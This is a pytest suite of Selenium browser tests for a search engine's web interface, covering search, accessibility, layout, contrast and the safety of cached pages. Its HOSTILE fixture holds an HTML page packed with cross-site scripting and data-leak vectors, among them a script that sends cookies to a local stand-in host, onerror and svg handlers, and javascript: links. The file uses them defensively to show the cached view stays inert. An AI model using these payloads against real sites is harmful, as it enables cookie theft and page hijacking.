"""The search page in a real browser: it works without scripts, and a malicious page does nothing in its cached view."""

import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from nutch2py.indexer.index_writers import IndexWriters
from nutch2py.records.webpage import WebPage
from nutch2py.table import open_store
from nutch2py.url.keys import reverse_url
from tests.indexer.pages import doc
from tests.processes import wait_until

BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
DRIVER = shutil.which("chromedriver")
SCRIPTS_OFF = 2
SCRIPTED = pytest.mark.parametrize("browser", ["with scripts"], indirect=True)
"""For tests without scripts."""


@pytest.fixture(params=["with scripts", "without scripts"])
def browser(request, tmp_path):
    if BROWSER is None or DRIVER is None:
        pytest.skip("no browser: install chromium and chromium-driver")
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = BROWSER
    for argument in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                     "--window-size=1200,900", f"--user-data-dir={tmp_path / 'profile'}"):  # fmt: skip
        options.add_argument(argument)
    if request.param == "without scripts":
        setting = {"profile.managed_default_content_settings.javascript": SCRIPTS_OFF}
        options.add_experimental_option("prefs", setting)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    driver = webdriver.Chrome(options=options, service=Service(DRIVER))
    driver.set_page_load_timeout(30)
    yield driver
    driver.quit()


def text_of(browser, selector):
    return [each.text for each in browser.find_elements("css selector", selector)]


def submit(browser, text):
    """Replace the text of the search box, press Enter, and wait for the next page."""
    before = browser.find_element("css selector", "html")
    box = browser.find_element("css selector", "input[type=search]")
    box.clear()
    box.send_keys(f"{text}\n")
    arrive(browser, before)


def follow(browser, text):
    """Click the link with this text, and wait for the next page."""
    before = browser.find_element("css selector", "html")
    browser.find_element("link text", text).click()
    arrive(browser, before)


def arrive(browser, before):
    from selenium.common.exceptions import WebDriverException
    from selenium.webdriver.support.ui import WebDriverWait

    def gone(_):
        try:
            before.is_enabled()
        except WebDriverException:  # a stale node, or no document at the moment
            return True
        return False

    WebDriverWait(browser, 30).until(gone)


def test_user_searches_filters_pages_and_explains(indexed_server, browser):
    browser.get(indexed_server.url)
    submit(browser, "hay")
    assert text_of(browser, ".count")[0].startswith("30 documents · 1–10")
    assert len(text_of(browser, "ol.hits li")) == 10
    assert text_of(browser, "ol.hits li:first-child em")
    follow(browser, "Next")
    assert "11–20" in text_of(browser, ".count")[0]
    assert browser.find_element("css selector", "input[type=search]").get_attribute("value") == "hay"
    submit(browser, "needle")
    follow(browser, "a.org")
    assert text_of(browser, ".count")[0].startswith("2 documents")
    assert text_of(browser, ".chosen") == ["a.org"]
    follow(browser, "all")
    assert text_of(browser, ".count")[0].startswith("4 documents")
    follow(browser, "why?")
    assert "“needle”" in text_of(browser, ".note")[0]
    browser.find_element("css selector", "summary").click()
    assert "idf" in text_of(browser, "pre")[0]
    submit(browser, "nedle")
    follow(browser, "needle")
    assert text_of(browser, ".count")[0].startswith("4 documents")
    submit(browser, "奥运会")
    assert text_of(browser, "ol.hits em") == ["奥运会", "奥运会"]
    follow(browser, "cached")
    browser.switch_to.frame(browser.find_element("css selector", "iframe"))
    assert "北京奥运会开幕" in text_of(browser, "body")[0]
    browser.switch_to.default_content()
    assert browser.get_cookies() == []


@SCRIPTED
def test_page_is_usable_with_keyboard_only(server, browser):
    from selenium.webdriver.common.keys import Keys

    def press(*keys):
        browser.switch_to.active_element.send_keys(*keys)

    browser.get(server.url)
    before = browser.find_element("css selector", "html")
    press("needle", Keys.ENTER)  # the box has the focus
    arrive(browser, before)
    browser.find_element("css selector", "body").send_keys(Keys.TAB)
    assert browser.switch_to.active_element.text == "Skip to content"
    press(Keys.ENTER)
    wait_until(lambda: browser.current_url.endswith("#main"))
    press(Keys.TAB)
    assert browser.switch_to.active_element.text == "newest first"
    press(Keys.TAB)
    first = browser.find_element("css selector", "ol.hits h2 a")
    assert browser.switch_to.active_element == first
    assert first.value_of_css_property("outline-style") == "solid"


@SCRIPTED
def test_page_layout_is_correct(server, browser):
    browser.get(f"{server.url}?q=needle")
    hits = browser.find_element("css selector", "ol.hits").rect
    aside = browser.find_element("css selector", "aside").rect
    assert aside["x"] > hits["x"] + hits["width"]  # side by side, so the style sheet is applied
    assert hits["width"] > 500
    browser.set_window_size(500, 900)
    hits = browser.find_element("css selector", "ol.hits").rect
    assert browser.find_element("css selector", "aside").rect["y"] >= hits["y"] + hits["height"]


@SCRIPTED
def test_page_fits_phone_width(server, browser):
    writers = IndexWriters(server.conf)
    long = "endless" * 40
    with writers:
        writers.write(doc("org.wide", url=f"http://wide.example.org/{long}", host="wide.example.org", title=long,
                          content=f"wide {long}"))  # fmt: skip
        writers.commit()
    browser.execute_cdp_cmd("Emulation.setDeviceMetricsOverride",
                            {"width": 360, "height": 740, "deviceScaleFactor": 2, "mobile": True})  # fmt: skip
    for path in ("", "?q=needle", "?q=nothing", "?q=wide&host=wide.example.org", "explain?q=wide&id=org.wide",
                 "cached?id=org.a:http/evil", f"?q={long}"):  # fmt: skip
        browser.get(server.url + path)
        metrics = browser.execute_cdp_cmd("Page.getLayoutMetrics", {})
        assert metrics["cssContentSize"]["width"] == 360, path


@SCRIPTED
def test_colours_follow_system_theme(server, browser):
    shades = {}
    for scheme in ("light", "dark"):
        browser.execute_cdp_cmd(
            "Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": scheme}]}
        )
        browser.get(f"{server.url}?q=needle")
        for part in ("body", "h2 a", ".url", ".snippet em", "input", "button", ".count"):
            element = browser.find_element("css selector", part)
            colours = [element.value_of_css_property(name) for name in ("color", "background-color")]
            shades[scheme, part] = [luminance(colour) for colour in colours]
    for (scheme, part), (ink, own) in shades.items():
        paper = shades[scheme, "body"][1] if own is None else own
        light, dark = max(ink, paper), min(ink, paper)
        assert (light + 0.05) / (dark + 0.05) >= 4.5, (scheme, part)  # WCAG 2, AA
    assert shades["light", "body"][1] > 0.9 > 0.1 > shades["dark", "body"][1]


def luminance(colour):
    """Return the relative luminance of a CSS colour, None when it is transparent."""
    red, green, blue, *alpha = (float(part) for part in colour.partition("(")[2].rstrip(")").split(","))
    if alpha == [0]:
        return None
    linear = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in (red / 255, green / 255, blue / 255)]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


@pytest.mark.parametrize("framed", [True, False])
def test_malicious_page_content_is_inert(server, browser, framed):
    path = "cached" if framed else "cached/view"
    browser.get(f"{server.url}{path}?id={reverse_url('http://a.org/evil')}")
    if framed:
        browser.switch_to.frame(browser.find_element("css selector", "iframe"))
    assert text_of(browser, "#text") == ["needle in a trap"]  # neither script nor onerror ran, nor the refresh
    assert browser.title != "ran"
    browser.switch_to.default_content()
    assert browser.get_cookies() == []
    assert browser.current_url.startswith(server.url)
    browser.get(server.url)
    assert browser.get_cookies() == []


HOSTILE = """<!doctype html><html><head><base href="{there}/"><title>Hostile</title>
<meta http-equiv="refresh" content="0;url={there}/refresh"><link rel="stylesheet" href="{there}/sheet">
<link rel="icon" href="{there}/icon"><link rel="preload" as="image" href="{there}/preload">
<link rel="prefetch" href="{there}/prefetch"><style>@import "{there}/import"; p {{ background: url({there}/back) }}
@font-face {{ font-family: f; src: url({there}/font) }} p {{ font-family: f }}</style>
<script src="{there}/script"></script><script>fetch("{there}/fetch"); document.cookie = "stolen=1";
new Image().src = "{there}/image?" + document.cookie; top.location = "{there}/top"; open("{there}/open");
document.title = "ran"; alert(1)</script></head>
<body onload="document.title = 'ran'" background="{there}/body"><p id=text>harmless words</p>
<img src="{there}/img" onerror="document.title = 'ran'"><img src=x onerror="document.title = 'ran'">
<svg onload="document.title = 'ran'"><script>document.title = 'ran'</script><image href="{there}/svg"/>
<animate onbegin="document.title = 'ran'" attributeName=x dur=1s /></svg>
<iframe src="{there}/frame"></iframe><iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe>
<iframe src="javascript:parent.document.title='ran'"></iframe>
<object data="{there}/object"></object><embed src="{there}/embed"><video src="{there}/video" autoplay></video>
<form action="{there}/form"><input autofocus onfocus="document.title = 'ran'"><button id=send>Send</button></form>
<form action="/?q=needle" target="_top"><button id=home>Home</button></form>
<a id=away href="{there}/away" target="_top" ping="{there}/ping">away</a> <a id=inside href="{there}/inside">inside</a>
<a id=code href="javascript:document.title='ran'">code</a></body></html>"""


@pytest.fixture
def elsewhere():
    """Yield the URL of another site's server, and the paths requested from it."""
    requested = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            requested.append(self.path)
            body = HOSTILE.format(there=address).encode() if self.path == "/hostile" else b""
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_):
            """Log nothing."""

    listening = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    address = f"http://127.0.0.1:{listening.server_address[1]}"
    thread = threading.Thread(target=listening.serve_forever, kwargs={"poll_interval": 0.02})
    thread.start()
    yield address, requested
    listening.shutdown()
    thread.join()
    listening.server_close()


@pytest.mark.parametrize("framed", [True, False])
def test_malicious_cached_page_makes_no_request(server, browser, elsewhere, framed):
    there, requested = elsewhere
    page = WebPage()
    page.content, page.content_type = HOSTILE.format(there=there).encode(), "text/html"
    with open_store(server.conf, WebPage).batch() as batch:
        batch.put("org.hostile:http/", page)
    with IndexWriters(server.conf) as writers:  # only documents of the index have a copy
        writers.write(
            doc("org.hostile:http/", url="http://hostile.org/", host="hostile.org", title="", content="words")
        )
        writers.commit()
    address = f"{server.url}cached{'' if framed else '/view'}?id=org.hostile:http/"
    browser.get(address)
    if framed:
        browser.switch_to.frame(browser.find_element("css selector", "iframe"))
    assert text_of(browser, "#text") == ["harmless words"]
    for button in ("#send", "#home", "#code", *(["#away", "#inside"] if framed else [])):
        element = browser.find_element("css selector", button)
        element.click()  # a user may, where the page is shown within ours
        if button == "#inside":
            break
        assert text_of(browser, "#text") == ["harmless words"], button
    browser.switch_to.default_content()
    assert browser.current_url == address
    assert len(browser.window_handles) == 1
    assert browser.title != "ran"
    assert browser.get_cookies() == []
    assert requested == []
    browser.get(f"{there}/hostile")  # the same page on its own does send requests
    assert {"/hostile", "/img", "/sheet"} <= set(requested)


def test_own_pages_satisfy_content_security_policy(server, browser):
    for path in ("", "?q=needle", "?q=nedle", "nothing", "explain?q=needle&id=org.b:http/plain",
                 f"cached?id={reverse_url('http://b.org/plain')}"):  # fmt: skip
        browser.get(server.url + path)
    messages = [entry["message"] for entry in browser.get_log("browser") if "404" not in entry["message"]]
    assert messages == []
